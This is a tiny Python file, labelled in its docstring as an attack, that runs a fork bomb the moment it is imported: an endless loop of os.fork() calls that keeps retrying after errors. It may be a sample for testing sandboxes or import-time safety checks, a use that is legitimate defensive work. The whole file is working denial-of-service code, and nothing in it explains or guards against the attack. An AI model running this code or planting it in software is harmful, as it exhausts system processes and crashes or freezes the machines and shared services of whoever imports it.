"""Attack: a fork bomb at import."""
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
